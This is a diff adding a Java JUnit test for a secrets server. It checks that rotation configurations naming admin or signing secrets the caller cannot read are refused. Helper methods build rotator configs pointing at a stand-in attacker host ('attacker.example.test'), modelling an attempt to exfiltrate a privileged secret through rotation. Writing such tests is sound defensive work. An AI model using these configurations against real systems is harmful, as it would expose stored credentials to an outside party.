@@ -1,0 +1,106 @@
+package dev.rekey.server;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Path;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Secret rotation routes over real HTTP: who may configure what, and the answers to broken configurations. */
+class SecretRotationEndpointsTest {
+  static final String ROOT = TestServer.ROOT;
+  @TempDir static Path dir;
+  static TestServer s;
+  /** key-officer on app-*: may configure rotations of app-* secrets, may read no secret value. */
+  static String officer;
+  /** key-officer and crypto-user on app-*: may also read the app-* secrets. */
+  static String appOwner;
+
+  @BeforeAll
+  static void start() {
+    s = TestServer.dev(dir);
+    officer = s.token("officer", "key-officer", "default", "app-*", null)[0];
+    TestServer.Resp r = s.post("/v1/auth/tokens", ROOT, "{\"principal\":\"app-owner\",\"grants\":["
+        + "{\"role\":\"key-officer\",\"namespace\":\"default\",\"keys\":\"app-*\"},"
+        + "{\"role\":\"crypto-user\",\"namespace\":\"default\",\"keys\":\"app-*\"}]}");
+    assertThat(r.status()).as(r.body()).isEqualTo(201);
+    appOwner = r.json().get("token").asText();
+    put("app-db", "{\\\"username\\\":\\\"appuser\\\",\\\"password\\\":\\\"old\\\"}");
+    put("prod-admin", "{\\\"username\\\":\\\"postgres\\\",\\\"password\\\":\\\"prod-root-password\\\"}");
+    put("app-admin", "{\\\"username\\\":\\\"postgres\\\",\\\"password\\\":\\\"app-admin-password\\\"}");
+    put("app-signing", "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
+    put("prod-signing", "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
+  }
+
+  @AfterAll
+  static void stop() {
+    s.close();
+  }
+
+  private static void put(String name, String jsonEscapedValue) {
+    TestServer.Resp r = s.req("PUT", "/v1/secrets/" + name).token(ROOT).json("{\"value\":\"" + jsonEscapedValue + "\"}")
+        .send();
+    assertThat(r.status()).as(r.body()).isIn(200, 201);
+  }
+
+  private static TestServer.Resp configure(String token, String secret, String json) {
+    return s.req("PUT", "/v1/secrets/" + secret + "/rotation").token(token).json(json).send();
+  }
+
+  private static String postgres(String adminSecret) {
+    return "{\"rotator\":\"postgresql\",\"params\":{\"url\":\"jdbc:postgresql://attacker.example.test:54329/db\","
+        + "\"admin_secret\":\"" + adminSecret + "\",\"username\":\"appuser\"}}";
+  }
+
+  private static String hook(String signingSecret) {
+    return "{\"rotator\":\"external-hook\",\"params\":{\"url\":\"https://attacker.example.test/hook\","
+        + "\"signing_secret\":\"" + signingSecret + "\"}}";
+  }
+
+  @Test
+  void configure_postgresqlAdminSecretTheCallerMayNotRead_isForbidden_andNothingIsStored() {
+    assertThat(s.get("/v1/secrets/prod-admin", officer).status()).isEqualTo(403);
+
+    TestServer.Resp r = configure(officer, "app-db", postgres("prod-admin"));
+
+    assertThat(r.status()).as(r.body()).isEqualTo(403);
+    assertThat(r.errorCode()).isEqualTo("forbidden");
+    assertThat(r.body()).contains("admin_secret").contains("prod-admin").doesNotContain("prod-root-password");
+    assertThat(s.get("/v1/secrets/app-db/rotation", ROOT).status()).isEqualTo(404);
+  }
+
+  @Test
+  void configure_externalHookSigningSecretTheCallerMayNotRead_isForbidden() {
+    put("app-hooked", "v0");
+    TestServer.Resp r = configure(appOwner, "app-hooked", hook("prod-signing"));
+    assertThat(r.status()).as(r.body()).isEqualTo(403);
+    assertThat(r.errorCode()).isEqualTo("forbidden");
+    assertThat(r.body()).contains("signing_secret");
+  }
+
+  @Test
+  void configure_keyOfficerWithoutReadOnTheNamedSecret_isForbiddenEvenInsideItsOwnKeys() {
+    TestServer.Resp r = configure(officer, "app-db", postgres("app-admin"));
+
+    assertThat(r.status()).as(r.body()).isEqualTo(403);
+    assertThat(r.errorCode()).isEqualTo("forbidden");
+    assertThat(s.get("/v1/secrets/app-db/rotation", ROOT).status()).isEqualTo(404);
+  }
+
+  @Test
+  void configure_callerMayReadEveryNamedSecret_succeeds() {
+    put("app-db2", "{\\\"username\\\":\\\"appuser\\\",\\\"password\\\":\\\"old\\\"}");
+    put("app-hooked2", "v0");
+    TestServer.Resp pg = configure(appOwner, "app-db2", postgres("app-admin"));
+    TestServer.Resp hooked = configure(appOwner, "app-hooked2", hook("app-signing"));
+    TestServer.Resp byRoot = configure(ROOT, "app-db2", postgres("prod-admin"));
+    TestServer.Resp generated = configure(officer, "app-db2", "{\"rotator\":\"generated\",\"params\":{}}");
+
+    assertThat(pg.status()).as(pg.body()).isEqualTo(200);
+    assertThat(hooked.status()).as(hooked.body()).isEqualTo(200);
+    assertThat(byRoot.status()).as(byRoot.body()).isEqualTo(200);
+    assertThat(generated.status()).as(generated.body()).isEqualTo(200);
+  }
+}
